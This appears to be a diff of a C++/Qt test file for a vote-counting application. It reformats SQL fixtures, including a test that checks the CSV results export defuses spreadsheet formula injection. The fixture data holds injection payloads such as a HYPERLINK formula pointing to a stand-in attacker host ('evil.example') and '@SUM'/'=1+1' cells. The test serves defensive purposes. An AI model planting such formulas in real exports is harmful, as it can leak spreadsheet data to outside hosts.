@@ -267,15 +267,12 @@ private slots:
     void csvNeverHandsASpreadsheetAFormula()
     {
         const QString chr = db->onServer() ? "chr" : "char";
-        db->exec("INSERT INTO Positions VALUES ('+P', '=1+1');"
-                 "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', '1', '+P'),"
-                 " ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', " +
-                 chr +
-                 "(9) || 'tab', '4', '+P'),"
-                 " ('E', " +
-                 chr +
-                 "(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
-                 "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)");
+        db->exec(QString("INSERT INTO Positions VALUES ('+P', '=1+1');"
+                         "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', "
+                         "'1', '+P'), ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', %1(9) || 'tab', '4',"
+                         " '+P'), ('E', %1(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
+                         "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)")
+                     .arg(chr));
         QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n"),
                  QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                               "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
@@ -357,11 +354,10 @@ private slots:
         // Codes in either case, a tally twice, a negative tally, a position with no candidates.
         db->exec(QStringLiteral(
             "INSERT INTO Positions VALUES ('P1', 'Head, \"Chief\"'), ('p2', 'Secretary'), ('P3', 'Nobody');"
-            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6', "
-            "'P1'),"
-            " ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5', 'p2');"
-            "INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7), ('F', "
-            "-1);"));
+            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6',"
+            " 'P1'), ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5',"
+            " 'p2'); INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7),"
+            " ('F', -1);"));
         startProgramOn(*db);
         frmCountVotes &screen = Shell::Show<frmCountVotes>();
         QString shown;
@@ -390,9 +386,8 @@ private slots:
         live.exec(QStringLiteral(
             "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40000)"
             " INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, printf('%020d', i), 0 FROM n;"
-            "INSERT INTO CandVote VALUES ('A', 0), ('B', 1000000); CREATE TRIGGER vote AFTER UPDATE OF HasVoted ON "
-            "Users"
-            " WHEN old.HasVoted = 0 BEGIN UPDATE CandVote SET NumVotes = NumVotes + 1 WHERE CandID = 'A';"
+            "INSERT INTO CandVote VALUES ('A', 0), ('B', 1000000); CREATE TRIGGER vote AFTER UPDATE OF HasVoted"
+            " ON Users WHEN old.HasVoted = 0 BEGIN UPDATE CandVote SET NumVotes = NumVotes + 1 WHERE CandID = 'A';"
             " UPDATE CandVote SET NumVotes = NumVotes - 1 WHERE CandID = 'B'; END;"));
         std::atomic<int> written{0}, stop{0};
         // Votes by student ID, one after another, on a connection of their own.
@@ -408,12 +403,10 @@ private slots:
             QFile::remove(db->file());
             const Run copied = admin({"backup", db->file(), live.file()});
             QVERIFY2(copied.exitCode == 0, qPrintable(copied.err));
-            QCOMPARE(
-                db->rows(QStringLiteral("SELECT (SELECT * FROM pragma_integrity_check), sum(NumVotes), (SELECT count(*)"
-                                        " FROM Users), sum(CASE CandID WHEN 'A' THEN NumVotes END) = (SELECT count(*) "
-                                        "FROM Users WHERE HasVoted = 1)"
-                                        " FROM CandVote")),
-                QStringList{"ok|1000000|40000|1"});
+            QCOMPARE(db->rows("SELECT (SELECT * FROM pragma_integrity_check), sum(NumVotes), (SELECT count(*) FROM "
+                              "Users), sum(CASE CandID WHEN 'A' THEN NumVotes END) = (SELECT count(*) FROM Users "
+                              "WHERE HasVoted = 1) FROM CandVote"),
+                     QStringList{"ok|1000000|40000|1"});
             QVERIFY(db->value(tally).toInt() > before);
         }
         // An existing copy is never overwritten.
